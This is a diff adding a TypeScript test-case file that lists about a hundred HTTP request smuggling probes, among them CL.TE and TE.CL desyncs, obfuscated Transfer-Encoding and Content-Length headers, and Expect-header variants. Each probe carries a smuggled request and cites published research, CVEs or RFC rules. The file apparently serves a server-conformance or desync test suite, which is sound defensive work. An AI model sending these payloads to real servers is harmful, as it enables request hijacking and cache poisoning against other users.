@@ -1,0 +1,165 @@
+/** Two lengths, or one that can be read in two ways. */
+import { CHUNKED, LAST, SMUGGLED, attacks, chunked, get, post, request } from './attack.ts';
+
+const WATCHFIRE = 'Linhart et al., HTTP Request Smuggling, Watchfire 2005';
+const KETTLE_2019 = 'Kettle, HTTP Desync Attacks: Request Smuggling Reborn, 2019';
+const KETTLE_2022 = 'Kettle, Browser-Powered Desync Attacks, 2022';
+const KETTLE_2025 = 'Kettle, HTTP/1.1 Must Die, 2025';
+const UNDERSCORE = 'Http11Probe, SMUG-TRANSFER_ENCODING';
+const T_REQS = 'Jabiyev et al., T-Reqs, CCS 2021';
+const TE_RULE = 'RFC 9112 §6.1';
+const CL_RULE = 'RFC 9112 §6.2, §6.3';
+
+const SIZE = SMUGGLED.length + 20;
+const hidden = `${LAST}${SMUGGLED}`;
+const withCoding = (line: string): string => post([line], hidden);
+const both = (line: string): string => post([`Content-Length: ${SIZE}`, line], hidden);
+const withLength = (line: string): string => post([line], `hello${SMUGGLED}`);
+
+export const FRAMING = attacks([
+  ['cl-te', KETTLE_2019, post(['Content-Length: 6', CHUNKED], `${LAST}G${SMUGGLED}`)],
+  ['te-cl', KETTLE_2019, post([CHUNKED, 'Content-Length: 4'], `5c\r\n${SMUGGLED}${LAST}`)],
+  ['cl-zero-te', WATCHFIRE, post(['Content-Length: 0', CHUNKED], hidden)],
+  ['te-te-second-unknown', KETTLE_2019, post([CHUNKED, 'Transfer-Encoding: x'], hidden)],
+  ['te-te-first-unknown', KETTLE_2019, post(['Transfer-Encoding: x', CHUNKED], hidden)],
+  ['te-te-twice', 'CVE-2020-8287', post([CHUNKED, CHUNKED], hidden)],
+  ['te-te-identity', TE_RULE, post([CHUNKED, 'Transfer-Encoding: identity'], hidden)],
+  ['te-list-twice', TE_RULE, withCoding('Transfer-Encoding: chunked, chunked')],
+  ['te-list-identity', TE_RULE, withCoding('Transfer-Encoding: identity, chunked')],
+  ['te-list-not-last', TE_RULE, withCoding('Transfer-Encoding: chunked, gzip')],
+  ['te-list-gzip', TE_RULE, withCoding('Transfer-Encoding: gzip, chunked')],
+  ['te-list-empty-first', TE_RULE, withCoding('Transfer-Encoding: , chunked')],
+  ['te-list-empty-last', TE_RULE, withCoding('Transfer-Encoding: chunked,')],
+  ['te-identity-only', TE_RULE, both('Transfer-Encoding: identity')],
+  ['te-empty', 'CVE-2019-15605', both('Transfer-Encoding: ')],
+  ['te-xchunked', KETTLE_2019, both('Transfer-Encoding: xchunked')],
+  ['te-chunkedx', KETTLE_2019, both('Transfer-Encoding: chunkedx')],
+  ['te-cow', KETTLE_2019, both('Transfer-Encoding: cow')],
+  ['te-quoted', KETTLE_2019, both('Transfer-Encoding: "chunked"')],
+  ['te-single-quoted', KETTLE_2019, both("Transfer-Encoding: 'chunked'")],
+  ['te-parameter', 'RFC 9112 §7.1', withCoding('Transfer-Encoding: chunked;q=1')],
+  ['te-vertical-tab', 'CVE-2019-18277', both('Transfer-Encoding:\x0bchunked')],
+  ['te-form-feed', KETTLE_2019, both('Transfer-Encoding:\x0cchunked')],
+  ['te-nul-behind', KETTLE_2019, both('Transfer-Encoding: chunked\0')],
+  ['te-delete-behind', KETTLE_2019, both('Transfer-Encoding: chunked\x7f')],
+  ['te-nbsp', KETTLE_2019, both('Transfer-Encoding:\xa0chunked')],
+  ['te-high-byte', KETTLE_2019, both('Transfer-Encoding: chunked\xff')],
+  ['te-cr-before', KETTLE_2019, both('Transfer-Encoding:\rchunked')],
+  ['te-cr-behind', KETTLE_2019, both('Transfer-Encoding: chunked\r')],
+  ['te-space-before-colon', KETTLE_2019, both('Transfer-Encoding : chunked')],
+  ['te-tab-before-colon', KETTLE_2019, both('Transfer-Encoding\t: chunked')],
+  ['te-leading-space', KETTLE_2019, both(' Transfer-Encoding: chunked')],
+  ['te-leading-tab', KETTLE_2019, both('\tTransfer-Encoding: chunked')],
+  ['te-folded', KETTLE_2019, both('Transfer-Encoding:\r\n chunked')],
+  ['te-folded-tab', KETTLE_2019, both('Transfer-Encoding:\r\n\tchunked')],
+  ['te-fold-continues', KETTLE_2019, both('Transfer-Encoding: chunked\r\n , identity')],
+  ['te-behind-lf', KETTLE_2019, both('X: y\nTransfer-Encoding: chunked')],
+  ['te-behind-cr', KETTLE_2019, both('X: y\rTransfer-Encoding: chunked')],
+  ['te-behind-nul', KETTLE_2019, both('X: y\0Transfer-Encoding: chunked')],
+  ['te-underscore', UNDERSCORE, both('Transfer_Encoding: chunked')],
+  ['te-dot', T_REQS, both('Transfer.Encoding: chunked')],
+  ['te-no-colon', T_REQS, both('Transfer-Encoding chunked')],
+  ['te-two-colons', T_REQS, both('Transfer-Encoding:: chunked')],
+  ['te-unicode-dash', T_REQS, both('Transfer\xadEncoding: chunked')],
+  ['te-capitals', TE_RULE, post(['TRANSFER-ENCODING: CHUNKED'], `5\r\nhello\r\n${LAST}`)],
+  ['te-tabs-around', 'RFC 9110 §5.5', post(['Transfer-Encoding:\tchunked \t'], LAST)],
+  ['te-no-space', 'RFC 9112 §5', post(['Transfer-Encoding:chunked'], LAST)],
+  ['te-http-1-0', TE_RULE, request('POST /c/{id} HTTP/1.0', ['Host: a', CHUNKED], hidden)],
+  [
+    'te-cl-http-1-0',
+    TE_RULE,
+    request(
+      'POST /c/{id} HTTP/1.0',
+      ['Host: a', 'Connection: keep-alive', 'Content-Length: 5', CHUNKED],
+      hidden,
+    ),
+  ],
+  ['te-get', KETTLE_2022, request('GET /c/{id} HTTP/1.1', ['Host: a', CHUNKED], LAST)],
+  ['te-nominated', 'RFC 9110 §7.6.1', post(['Connection: transfer-encoding', CHUNKED], LAST)],
+
+  ['cl-twice-differs', CL_RULE, post(['Content-Length: 0', 'Content-Length: 5'], SMUGGLED)],
+  ['cl-twice-same', CL_RULE, post(['Content-Length: 5', 'Content-Length: 5'], 'hello')],
+  ['cl-list-differs', CL_RULE, post(['Content-Length: 0, 44'], SMUGGLED)],
+  ['cl-list-same', CL_RULE, post(['Content-Length: 5, 5'], 'hello')],
+  ['cl-plus', 'benoitc/gunicorn#2810', withLength('Content-Length: +5')],
+  ['cl-minus', CL_RULE, withLength('Content-Length: -5')],
+  ['cl-minus-zero', CL_RULE, withLength('Content-Length: -0')],
+  ['cl-hexadecimal', T_REQS, withLength('Content-Length: 0x5')],
+  [
+    'cl-underscored-number',
+    'Kallus et al., The HTTP Garden, 2024',
+    withLength('Content-Length: 0_5'),
+  ],
+  ['cl-leading-zeros', CL_RULE, post(['Content-Length: 0010'], '0123456789')],
+  ['cl-space-inside', CL_RULE, withLength('Content-Length: 0 5')],
+  ['cl-tab-inside', CL_RULE, withLength('Content-Length: 0\t5')],
+  ['cl-comma-behind', CL_RULE, withLength('Content-Length: 5,')],
+  ['cl-point', CL_RULE, withLength('Content-Length: 5.0')],
+  ['cl-exponent', T_REQS, withLength('Content-Length: 5e0')],
+  ['cl-letters-behind', T_REQS, withLength('Content-Length: 5a')],
+  ['cl-semicolon', T_REQS, withLength('Content-Length: 5;')],
+  ['cl-quoted', T_REQS, withLength('Content-Length: "5"')],
+  ['cl-vertical-tab', T_REQS, withLength('Content-Length:\x0b5')],
+  ['cl-nul-behind', T_REQS, withLength('Content-Length: 5\0')],
+  ['cl-nbsp', T_REQS, withLength('Content-Length:\xa05')],
+  ['cl-arabic-digit', 'The HTTP Garden, 2024', withLength('Content-Length: \xd9\xa5')],
+  ['cl-empty', 'CVE-2023-40225', post(['Content-Length: '], SMUGGLED)],
+  ['cl-two-to-the-64', CL_RULE, withLength('Content-Length: 18446744073709551621')],
+  ['cl-two-to-the-63', CL_RULE, withLength('Content-Length: 9223372036854775808')],
+  ['cl-twenty-nines', CL_RULE, withLength(`Content-Length: ${'9'.repeat(40)}`)],
+  ['cl-space-before-colon', WATCHFIRE, withLength('Content-Length : 5')],
+  ['cl-leading-space', WATCHFIRE, withLength(' Content-Length: 5')],
+  ['cl-folded', 'RFC 9112 §5.2', withLength('Content-Length:\r\n 5')],
+  ['cl-underscore-name', UNDERSCORE, post(['Content_Length: 5'], '')],
+  ['cl-behind-lf', WATCHFIRE, withLength('X: y\nContent-Length: 5')],
+  ['cl-tabs-around', 'RFC 9110 §5.5', post(['Content-Length:\t5\t'], 'hello')],
+  ['cl-capitals', 'RFC 9110 §5.1', post(['CONTENT-LENGTH: 5'], 'hello')],
+  [
+    'cl-nominated',
+    'RFC 9110 §7.6.1',
+    post(['Connection: content-length', 'Content-Length: 5'], 'hello'),
+  ],
+  ['cl-zero-body', KETTLE_2022, post(['Content-Length: 0'])],
+  ['cl-too-short', KETTLE_2022, post([`Content-Length: ${SIZE * 20}`], SMUGGLED)],
+  [
+    'cl-get',
+    KETTLE_2022,
+    request('GET /c/{id} HTTP/1.1', ['Host: a', 'Content-Length: 5'], 'hello'),
+  ],
+  [
+    'cl-get-smuggled',
+    KETTLE_2022,
+    request(
+      'GET /c/{id} HTTP/1.1',
+      ['Host: a', `Content-Length: ${SMUGGLED.length - 4 + 'cl-get-smuggled~'.length}`],
+      SMUGGLED,
+    ),
+  ],
+  [
+    'cl-head',
+    KETTLE_2022,
+    request('HEAD /c/{id} HTTP/1.1', ['Host: a', 'Content-Length: 5'], 'hello'),
+  ],
+  ['expect', 'RFC 9110 §10.1.1', post(['Expect: 100-continue', 'Content-Length: 5'], 'hello')],
+  ['expect-capitals', KETTLE_2025, post(['Expect: 100-CONTINUE', 'Content-Length: 5'], 'hello')],
+  ['expect-y', KETTLE_2025, post(['Expect: y 100-continue', 'Content-Length: 5'], 'hello')],
+  ['expect-lf', KETTLE_2025, post(['Expect: \n100-continue', 'Content-Length: 5'], 'hello')],
+  [
+    'expect-twice',
+    KETTLE_2025,
+    post(['Expect: 100-continue', 'Expect: x', 'Content-Length: 5'], 'hello'),
+  ],
+  ['expect-get', KETTLE_2025, get(['Expect: 100-continue'])],
+  [
+    'expect-http-1-0',
+    'RFC 9110 §10.1.1',
+    request(
+      'POST /c/{id} HTTP/1.0',
+      ['Host: a', 'Expect: 100-continue', 'Content-Length: 5'],
+      'hello',
+    ),
+  ],
+  ['plain-post', 'RFC 9112 §6.2', post(['Content-Length: 5'], 'hello')],
+  ['plain-chunked', 'RFC 9112 §7.1', chunked(`5\r\nhello\r\n${LAST}`)],
+  ['plain-get', 'RFC 9112 §3', get([])],
+]);
